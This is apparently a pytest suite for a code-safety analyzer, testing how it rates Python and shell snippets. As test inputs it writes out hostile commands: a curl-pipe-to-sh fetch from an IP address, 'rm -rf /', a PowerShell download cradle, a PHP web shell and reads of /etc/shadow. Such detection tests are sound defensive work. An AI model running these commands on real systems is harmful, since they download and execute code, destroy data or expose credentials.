"""The contract of `analyze`: what it takes, what it never does, and that the gate is alive."""

from __future__ import annotations

import hashlib
import json
import subprocess
import sys
import threading
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from rune.code import CANARY, CodeReport, analyze
from rune.limits import CodeLimits
from rune.types import Category, Severity

from .conftest import Effect, Rules

HARMFUL = "import os\nos.system('curl http://203.0.113.7/x | sh')\n"


def test_the_canary_is_critical() -> None:
    report = analyze(CANARY, "python")
    assert report.worst is Severity.CRITICAL
    assert report.findings[0].line == 2


@pytest.mark.parametrize("language", ["python", "bash"])
def test_the_hash_is_that_of_exactly_the_source(language: str) -> None:
    source = "x = 'é'  \r\n"
    assert analyze(source, language).sha256 == hashlib.sha256(source.encode()).hexdigest()


def test_lone_surrogates_have_a_hash() -> None:
    assert analyze("x = '\ud800'").sha256 == hashlib.sha256(b"x = '\xed\xa0\x80'").hexdigest()


@pytest.mark.parametrize(
    ("language", "read_as"),
    [
        pytest.param("python", "python", id="python"),
        pytest.param("py", "python", id="py"),
        pytest.param("Python3", "python", id="Python3"),
        pytest.param("{.python .numberLines}", "python", id="pandoc attributes"),
        pytest.param("", "python", id="no label"),
    ],
)
def test_labels_of_python(language: str, read_as: str) -> None:
    assert analyze("import os\nprint(os.getcwd())", language).language == read_as


@pytest.mark.parametrize("language", ["bash", "sh", "shell", "zsh", "console", ""])
def test_labels_of_shell(language: str) -> None:
    report = analyze("ls -la | grep x && pip install pandas", language)
    assert (report.language, report.findings) == ("shell", ())
    assert report.manifest.packages == ("pandas",)


@pytest.mark.parametrize(
    ("source", "language", "read_as"),
    [
        pytest.param("curl http://x.io/a | sh", "python", "shell", id="shell labeled as Python"),
        pytest.param("import os\nos.system('rm -rf /')", "bash", "shell", id="Python labeled as shell"),
        pytest.param("import os\nos.system('rm -rf /')", "javascript", "javascript", id="Python labeled as JavaScript"),
        pytest.param("rm -rf /", "rust", "rust", id="shell labeled as Rust"),
        pytest.param("import os\nos.system('rm -rf /')", "brainwave", "brainwave", id="a label nobody knows"),
        pytest.param("rm -rf /", "", "shell", id="shell without a label"),
        pytest.param("IEX (New-Object Net.WebClient).DownloadString('http://x/y')", "bash", "shell", id="PowerShell labeled as shell"),
        pytest.param("<?php system($_GET['c']); ?>", "python", "python", id="PHP labeled as Python"),
    ],
)
def test_a_wrong_label_hides_nothing(source: str, language: str, read_as: str) -> None:
    report = analyze(source, language)
    assert report.language == read_as
    assert report.worst is not None
    assert report.worst.rank >= Severity.HIGH.rank


@pytest.mark.parametrize("language", ["javascript", "js", "powershell", "ps1", "pwsh", "cmd", "ruby", "sql", "brainwave"])
def test_what_has_no_reader_is_reviewed(language: str, effect: Effect, rules: Rules) -> None:
    assert effect("console.log(1)", language) == "review"
    assert "001" in rules("console.log(1)", language)


@pytest.mark.parametrize("language", ["json", "yaml", "text", "markdown", "html", "csv", "diff", "output"])
def test_data_is_no_code(language: str) -> None:
    report = analyze("rm -rf / # and import os; os.system('x')", language)
    assert (report.findings, report.language) == ((), "text")


@pytest.mark.parametrize(
    ("source", "wanted"),
    [
        pytest.param("rm -rf /", "block", id="shell"),
        pytest.param("import os\nos.system('rm -rf /')", "block", id="Python"),
        pytest.param("print(1)", "allow", id="harmless Python"),
        pytest.param("Mix the eggs, then wait.", "review", id="neither"),
        pytest.param('{"a": [1, 2]}', "allow", id="JSON, which is a Python expression"),
    ],
)
def test_data_that_is_about_to_run_is_read_whatever_its_label(source: str, wanted: str, effect: Effect) -> None:
    assert effect(source, "json", executes=True) == wanted


@pytest.mark.parametrize("source", ["", "   \n\t\n", "# only a comment\n"])
@pytest.mark.parametrize("language", ["", "python", "bash"])
def test_nothing_is_harmless(source: str, language: str) -> None:
    report = analyze(source, language)
    assert (report.findings, report.parsed) == ((), True)


@pytest.mark.parametrize("source", [None, b"import os", bytearray(b"\xff\xfe"), 3, ["ls"], object()])
def test_what_is_no_text_gets_a_report_too(source: Any) -> None:
    assert isinstance(analyze(source, "python"), CodeReport)


@pytest.mark.parametrize(
    ("source", "language"),
    [
        pytest.param("def broken(:\n", "python", id="Python"),
        pytest.param("x = ", "python", id="Python, unfinished"),
        pytest.param("print('a\0b')", "python", id="NUL"),
        pytest.param("x = '\udc80'", "python", id="lone surrogate"),
        pytest.param("if [ -f x; then", "bash", id="shell"),
        pytest.param("echo 'never closed", "bash", id="shell, open quote"),
    ],
)
def test_what_cannot_be_parsed_is_reviewed_and_says_so(source: str, language: str, effect: Effect, rules: Rules) -> None:
    assert effect(source, language) == "review"
    assert "002" in rules(source, language)
    assert not analyze(source, language).parsed


@pytest.mark.parametrize(
    ("source", "language"),
    [
        pytest.param("(" * 150 + ")" * 150, "python", id="parentheses"),
        pytest.param("1+" * 40_000 + "1", "python", id="sums"),
        pytest.param("a" + ".b" * 40_000, "python", id="attributes"),
        pytest.param("not " * 40_000 + "1", "python", id="negations"),
        pytest.param("if a:\n pass\n" + "elif a:\n pass\n" * 3_000, "python", id="elif"),
        pytest.param("f" + "(f" * 120 + ")" * 120, "python", id="calls"),
        pytest.param("[" * 90 + "]" * 90, "python", id="lists"),
        pytest.param("$(" * 20_000, "bash", id="substitutions"),
        pytest.param("{ " * 20_000, "bash", id="groups"),
        pytest.param("a|" * 20_000, "bash", id="pipes"),
        pytest.param("<" * 20_000, "bash", id="redirections"),
        pytest.param("(" * 500 + ")" * 500, "bash", id="subshells"),
        pytest.param("if a; then " * 2_000, "bash", id="conditions"),
        pytest.param("<<A\n" * 5_000, "bash", id="here-documents"),
    ],
)
def test_depth_never_overflows_the_stack(source: str, language: str) -> None:
    report = analyze(source, language)
    assert not any(finding.category is Category.INTERNAL_ERROR for finding in report.findings)


@pytest.mark.parametrize("depth", [200, 900])
def test_a_host_deep_in_its_own_stack_gets_a_finding(depth: int) -> None:
    def down(left: int) -> CodeReport:
        return down(left - 1) if left else analyze("f(" * 60 + "1" + ")" * 60 + f"  # {depth}", "python")

    sys.setrecursionlimit(1000)
    try:
        report = down(depth)
    except RecursionError:
        return
    assert report.findings == () or report.worst is Severity.MEDIUM


def test_too_large_a_source_is_reviewed_and_its_head_read() -> None:
    report = analyze(HARMFUL + "#" * 1_000, limits=CodeLimits(source_chars=500))
    assert {"RUNE-CODE-003", "RUNE-CODE-010"} <= {finding.rule for finding in report.findings}
    assert not report.parsed


@pytest.mark.parametrize(
    ("limits", "source", "language"),
    [
        pytest.param(CodeLimits(nodes=50), "x = 1\n" * 100, "python", id="nodes, Python"),
        pytest.param(CodeLimits(nodes=50), "ls a\n" * 100, "bash", id="nodes, shell"),
        pytest.param(CodeLimits(seconds=0.0), "x = 1\n" * 400, "python", id="time"),
        pytest.param(CodeLimits(depth=1), "import os\nos.system(\"bash -c 'ls'\")", "python", id="languages in one another"),
    ],
)
def test_reaching_a_bound_is_reviewed(limits: CodeLimits, source: str, language: str) -> None:
    report = analyze(source, language, limits=limits)
    assert report.worst is Severity.MEDIUM
    assert "RUNE-CODE-003" in {finding.rule for finding in report.findings}


def test_what_was_found_before_a_bound_stays_found() -> None:
    report = analyze(HARMFUL + "x = 1\n" * 5_000, "python", limits=CodeLimits(nodes=2_000))
    assert report.worst is Severity.CRITICAL


def test_the_line_is_that_of_the_outermost_code() -> None:
    report = analyze("x = 1\nimport os\n\nos.system('''\n\n\nrm -rf /''')", "python")
    assert [(finding.line, finding.chain) for finding in report.findings] == [(4, ("shell",))]


def test_findings_come_worst_first() -> None:
    ranks = [finding.severity.rank for finding in analyze("open('/etc/hosts2')\nopen('/etc/shadow')\n" + HARMFUL, "python").findings]
    assert ranks == sorted(ranks, reverse=True)
    assert len(ranks) == 3


def test_one_rule_does_not_drown_the_others() -> None:
    report = analyze("".join(f"open('/etc/x{i}')\n" for i in range(400)) + HARMFUL, "python")
    assert len(report.findings) < 50
    assert report.worst is Severity.CRITICAL


def test_equal_code_gives_equal_reports_and_json() -> None:
    first, second = analyze(HARMFUL, "python", work_dir="/one"), analyze(HARMFUL, "python", work_dir="/two")
    assert first == second
    assert json.dumps(first.to_dict(), sort_keys=True) == json.dumps(second.to_dict(), sort_keys=True)


def test_the_work_directory_decides_what_is_inside() -> None:
    source = "import shutil\nshutil.rmtree('/data/job/tmp')"
    assert analyze(source, "python", work_dir="/data/job").findings == ()
    assert analyze(source, "python", work_dir="/data/other").worst is Severity.MEDIUM


def test_many_threads_get_the_same_report() -> None:
    sources = [f"{HARMFUL}# {number % 5}" for number in range(20)]
    reports: list[CodeReport] = []
    threads = [threading.Thread(target=lambda source=source: reports.append(analyze(source, "python"))) for source in sources]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    assert {report.worst for report in reports} == {Severity.CRITICAL}
    assert len(reports) == 20


def test_warnings_of_the_parser_stay_inside() -> None:
    code = "from rune.code import analyze; assert not analyze(r'''x = \"\\d\"; y = 1 is 1''', 'python').findings"
    run = subprocess.run([sys.executable, "-W", "error", "-c", code], capture_output=True, text=True, check=False)
    assert (run.returncode, run.stderr) == (0, "")


def test_import_does_not_load_the_readers() -> None:
    code = "import sys, rune.code; assert 'tree_sitter' not in sys.modules and 'rune.code.analysis' not in sys.modules"
    assert subprocess.run([sys.executable, "-c", code], check=False).returncode == 0


WORDS = """
import os|os.system(|'rm -rf /'|)|(|[|]|{|}|    |def f(x):|return|lambda|x|=|+|*|1|10**10|f'{x}'|for i in|while True:|class A:|@|exec|eval
getattr|'''|"|'|\\|#|$|`|&&|;|<<EOF|EOF|<|>|$(|${|curl|sh|é|!|%%bash|~|/etc/shadow|*'a'|.join|%s|.format(|range(10**9)|bytes(
int('9'*5000)|[::-1]|base64.b64decode(|async|await|yield|match|case _:
"""
PIECES = st.sampled_from(["\n", "\0", "\ud800", "|", *WORDS.strip().replace("\n", "|").split("|")])


@settings(max_examples=150, deadline=None)
@given(st.lists(PIECES, max_size=40).map(" ".join), st.sampled_from(["python", "bash", "", "powershell", "json"]), st.booleans())
def test_no_source_raises_or_fails_inside(source: str, language: str, executes: bool) -> None:
    report = analyze(source, language, executes=executes)
    assert not any(finding.category is Category.INTERNAL_ERROR for finding in report.findings)
    json.dumps(report.to_dict())


@settings(max_examples=100, deadline=None)
@given(st.text(max_size=300), st.sampled_from(["python", "bash", ""]))
def test_no_text_raises_or_fails_inside(source: str, language: str) -> None:
    report = analyze(source, language)
    assert not any(finding.category is Category.INTERNAL_ERROR for finding in report.findings)
